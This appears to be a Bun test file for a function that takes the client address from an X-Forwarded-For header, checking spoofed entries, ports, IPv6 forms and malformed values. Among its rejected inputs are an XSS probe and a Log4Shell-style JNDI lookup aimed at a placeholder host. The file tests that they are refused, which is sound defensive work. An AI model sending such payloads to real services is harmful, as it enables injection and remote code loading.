import { describe, expect, test } from 'bun:test';
import { callerAddress } from './caller-address.ts';

const proxy = '10.0.0.1';

describe('callerAddress()', () => {
  const cases: [what: string, forwarded: string | null, hops: number, address: string][] = [
    ['believes nobody without a proxy', '1.1.1.1', 0, proxy],
    ['takes what the one proxy wrote', '1.1.1.1', 1, '1.1.1.1'],
    ['does not count a spoofed entry before one proxy', '9.9.9.9, 1.1.1.1', 1, '1.1.1.1'],
    ['takes what the outer of two proxies wrote', '1.1.1.1, 10.0.0.2', 2, '1.1.1.1'],
    ['does not count spoofed entries before two proxies', '8.8.8.8,9.9.9.9, 1.1.1.1,10.0.0.2', 2, '1.1.1.1'],
    ['takes the socket when the header is missing', null, 1, proxy],
    ['takes the socket when the header is empty', '', 1, proxy],
    ['takes the socket when the header is too short', '1.1.1.1', 2, proxy],
    ['takes the socket when the entry is garbage', 'evil', 1, proxy],
    ['takes the socket when the entry is empty', '1.1.1.1,', 1, proxy],
    ['takes the socket when the entry is half an address', '1.1.1', 1, proxy],
    ['takes the socket when the entry names a zone', 'fe80::1%eth0', 1, proxy],
    ['does not fall back to an entry further left', '1.1.1.1, unknown', 1, proxy],
    ['reads IPv6', '9.9.9.9, 2001:db8::1', 1, '2001:db8::1'],
    ['reads IPv6 in brackets', '[2001:db8::1]', 1, '2001:db8::1'],
    ['drops the port of IPv6', '[2001:db8::1]:4711', 1, '2001:db8::1'],
    ['drops the port of IPv4', '1.1.1.1:4711', 1, '1.1.1.1'],
    ['drops the port of quoted IPv4', '"203.0.113.9:4711"', 1, '203.0.113.9'],
    ['drops the port of quoted IPv6', '"[2001:db8::1]:4711"', 1, '2001:db8::1'],
    ['knows an IPv6 address in every spelling', '2001:DB8:0:0:0:0:0:1', 1, '2001:db8::1'],
    ['knows IPv4 inside IPv6', '::ffff:1.2.3.4', 1, '1.2.3.4'],
    ['knows IPv4 inside IPv6 with a port', '[::FFFF:1.2.3.4]:80', 1, '1.2.3.4'],
    ['knows IPv4 inside IPv6 in groups', '0:0:0:0:0:ffff:c000:201', 1, '192.0.2.1'],
    ['takes the socket when the entry is a script', '<script>alert(1)</script>', 1, proxy],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: what attackers write
    ['takes the socket when the entry is a look-up', '${jndi:ldap://evil/x}', 1, proxy],
    ['takes the socket when the port is a word', '203.0.113.9:PORT', 1, proxy],
    ['takes the socket when the port is empty', '203.0.113.9:', 1, proxy],
    ['takes the socket when the entry is a name', 'client.example', 1, proxy],
    ['takes the socket when the address is hidden', '_hidden', 1, proxy],
    ['takes the socket when IPv4 has leading zeros', '010.1.1.1', 1, proxy],
    ['takes the socket when IPv4 is one number', '16843009', 1, proxy],
    ['takes the socket when a bracket is missing', '[2001:db8::1', 1, proxy],
    ['takes the socket when IPv4 stands in brackets with a word', '[1.1.1.1]x', 1, proxy],
    ['takes the socket when a bracketed entry names a zone', '[fe80::1%25eth0]:80', 1, proxy],
    ['takes the socket when it is of the other header', 'for=1.1.1.1', 1, proxy],
    ['counts from the right however long the list', `${'9.9.9.9, '.repeat(5_000)}1.1.1.1`, 1, '1.1.1.1'],
    ['is not confused by space', ' 9.9.9.9 ,\t1.1.1.1 ', 1, '1.1.1.1'],
  ];
  for (const [what, forwarded, hops, address] of cases) {
    test(`callerAddress() ${what}`, () => {
      expect(callerAddress(forwarded, proxy, hops)).toBe(address);
    });
  }

  test('callerAddress() has one spelling for the socket, too', () => {
    expect(callerAddress(null, '::ffff:127.0.0.1', 0)).toBe('127.0.0.1');
    expect(callerAddress('garbage', '::FFFF:7f00:1', 1)).toBe('127.0.0.1');
    expect(callerAddress(null, '::1', 0)).toBe('::1');
    expect(callerAddress(null, 'fe80::1%eth0', 0)).toBe('fe80::1%eth0');
    expect(callerAddress(null, 'unknown', 0)).toBe('unknown');
  });
});
